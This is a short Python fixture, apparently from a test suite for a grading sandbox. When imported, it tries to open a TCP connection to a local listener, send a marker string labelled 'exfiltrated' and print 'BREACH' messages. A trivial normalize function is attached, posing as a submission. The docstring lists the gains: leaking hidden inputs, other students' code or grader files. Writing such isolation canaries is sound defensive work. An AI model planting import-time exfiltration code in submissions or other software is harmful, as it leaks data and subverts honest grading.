"""Connects over TCP to 127.0.0.1:PORT (a listener the test opened) at import and sends data.

Gain if it worked: the network: hidden inputs, other students' code or the grader's files sent
out; answers fetched from outside; local services (databases, the grader's own) reached.
"""

import socket

PORT = 0  # filled in by the test

try:
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    print("BREACH: created an inet socket", flush=True)
    connection.settimeout(1.0)
    connection.connect(("127.0.0.1", PORT))
    connection.sendall(b"agx: exfiltrated")
    print("BREACH: connected to 127.0.0.1 port", PORT, flush=True)
except OSError:
    pass


def normalize(scores, dim=-1):
    return scores / scores.sum(dim=dim, keepdim=True)
